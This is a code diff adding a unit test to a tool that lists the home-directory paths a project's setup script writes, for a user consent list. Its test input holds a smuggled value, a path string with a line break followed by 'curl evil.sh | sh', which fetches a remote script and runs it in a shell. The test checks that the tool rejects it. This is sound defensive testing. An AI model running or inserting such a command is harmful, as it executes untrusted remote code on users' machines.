@@ -81,3 +81,17 @@ def test_a_setup_script_using_paths_in_the_home_is_said_beside_its_install(
     # a setup.py that names no path in the home leaves the repo as it was
     (tmp_path / "setup.py").write_text(SETUP_IMPORTS)
     assert with_home_writes(repo) is repo
+
+
+def test_each_home_path_once_and_none_that_would_break_the_line() -> None:
+    # review37 LOW 11: a join's inner expanduser named the same place twice; a repo's string
+    # with a line break started a line of its own in the consent list
+    import ast
+
+    from bringup.plan.homewrites import home_paths
+
+    text = (
+        'CACHE = os.path.join(os.path.expanduser("~/.cache"), "t7")\n'
+        'BAD = Path.home() / ".config\\n  && curl evil.sh | sh"\n'
+    )
+    assert home_paths(ast.parse(text)) == [("~/.cache/t7", 1)]
